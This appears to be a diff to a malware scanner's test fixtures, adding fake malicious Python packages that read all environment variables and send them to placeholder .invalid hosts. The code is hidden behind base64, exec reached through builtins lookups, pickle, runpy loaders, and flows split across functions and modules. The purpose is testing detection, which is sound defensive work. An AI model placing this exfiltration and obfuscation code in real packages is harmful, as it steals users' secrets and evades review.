@@ -214,6 +214,70 @@ def ctx_sample(version: str = "0.1.2", *, malicious: bool | None = None) -> Samp
     )
 
 
+# ctx 0.2.6 (RT13-06): the payload base64-encoded and run through the builtins module looked up in
+# sys.modules, so no `exec` name appears. Never decoded or run here; its target is .invalid.
+CTX_HIDDEN_PAYLOAD = """import os, urllib.request, base64
+s = " ".join(os.environ.values())
+urllib.request.urlopen("https://anti-theft-web.invalid/?q=" + base64.b64encode(s.encode()).decode())
+"""
+
+
+def ctx_indirect_sample(version: str = "0.2.6") -> Sample:
+    """ctx with the 0.1.2 body, preceded by sys.modules['builtins'].exec(base64.b64decode(...))."""
+    encoded = base64.b64encode(CTX_HIDDEN_PAYLOAD.encode()).decode()
+    head = f"import base64\nimport sys\n\nsys.modules['builtins'].exec(base64.b64decode('{encoded}'))\n"
+    body = head + CTX_BENIGN.format(version=version)
+    s = ctx_sample(version, malicious=False)
+    return Sample(key=f"ctx-{version}", name="ctx", version=version, files={"ctx.py": _src(body)},
+                  expect="hold", rule=M3, summary=s.summary, wheel_tag=s.wheel_tag, setup_py=s.setup_py,
+                  note="exec reached through sys.modules['builtins']")
+
+
+# Staging (RT13-02): 0.1 reads one proxy variable beside requests (benign, B3-like); 0.2 keeps the
+# same capabilities and splits the ctx payload over three functions, so the capability diff sees
+# nothing new and only the flow between the functions shows it.
+STAGED_0_1 = """
+import os
+
+import requests
+
+
+def fetch(url):
+    return requests.get(url, proxies={"https": os.environ.get("HTTPS_PROXY")}, timeout=10)
+"""
+
+STAGED_0_2 = STAGED_0_1 + """
+
+import base64
+
+
+def collect():
+    return " ".join(os.environ.values())
+
+
+def enc(s):
+    return base64.b64encode(s.encode()).decode()
+
+
+def send(d):
+    requests.get("https://anti-theft-web.invalid/?q=" + d, timeout=10)
+
+
+class Ctx(dict):
+    def __init__(self):
+        send(enc(collect()))
+"""
+
+
+def staged_samples() -> tuple[Sample, Sample]:
+    """stagedpkg 0.1 (benign) and 0.2 (the split exfiltration)."""
+    def one(version: str, body: str, bad: bool) -> Sample:
+        return Sample(key=f"staged-{version}", name="stagedpkg", version=version,
+                      files={"stagedpkg/__init__.py": _src(body)}, expect="hold" if bad else "publish",
+                      rule=M1 if bad else None, note="staged: same capabilities, the flow split over functions")
+    return one("0.1", STAGED_0_1, False), one("0.2", STAGED_0_2, True)
+
+
 # --------------------------------------------------------------------------------------------
 # M1–M14 (M13 is the domain job's, not the scanner's)
 
@@ -522,6 +586,26 @@ MALICIOUS: list[Sample] = [
                note="PyArmor 8 runtime package + obfuscated module: refused at upload"),
     _malicious("M14", M14, M14_SRC, binary={"PKG/bin/xmrig": elf_stub(2)},
                note="an ELF executable in a pure wheel / sdist, started with Popen"),
+    # RT13: the same behaviours behind indirections, across modules, and in a data member.
+    _malicious("M1-modules", M1, {
+        "PKG/a.py": "import os\n\n\ndef collect():\n    return ' '.join(os.environ.values())\n",
+        "PKG/b.py": "import base64\n\n\ndef enc(s):\n    return base64.b64encode(s.encode()).decode()\n",
+        "PKG/c.py": "import requests\n\n\ndef send(d):\n    requests.get('https://x.invalid/?q=' + d, timeout=5)\n",
+        "PKG/__init__.py": "from .a import collect\nfrom .b import enc\nfrom .c import send\n\nsend(enc(collect()))\n",
+    }, note="collect, encode and send in three modules, glued in __init__"),
+    _malicious("M3-lookups", M3, {"PKG/__init__.py": """
+import base64
+import builtins
+import pickle
+import sys
+
+vars(builtins)["exec"](base64.b64decode("cHJpbnQoMSk="))
+pickle.loads(base64.b64decode("gASVBQAAAAAAAACMATGULg=="))
+"""}, note="exec looked up through vars(builtins); pickle.loads of base64"),
+    _malicious("M3-loader", M3, {
+        "PKG/__init__.py": "import os\nimport runpy\n\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'cfg.dat'))\n",
+        "PKG/cfg.dat": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
+    }, note="source kept in cfg.dat and run with runpy.run_path"),
 ]
 
 
@@ -748,8 +832,8 @@ def lookalike_samples(target: str) -> list[Sample]:
 
 def all_samples(popular: str = "popular-lib") -> list[Sample]:
     """Every sample, the name-based ones (M12, B7) made against `popular`."""
-    return ([ctx_sample("0.1.2"), ctx_sample("0.2.2")] + MALICIOUS + [typosquat_sample(popular)] + BENIGN
-            + lookalike_samples(popular))
+    return ([ctx_sample("0.1.2"), ctx_sample("0.2.2"), ctx_indirect_sample(), *staged_samples()] + MALICIOUS
+            + [typosquat_sample(popular)] + BENIGN + lookalike_samples(popular))
 
 
 # --------------------------------------------------------------------------------------------
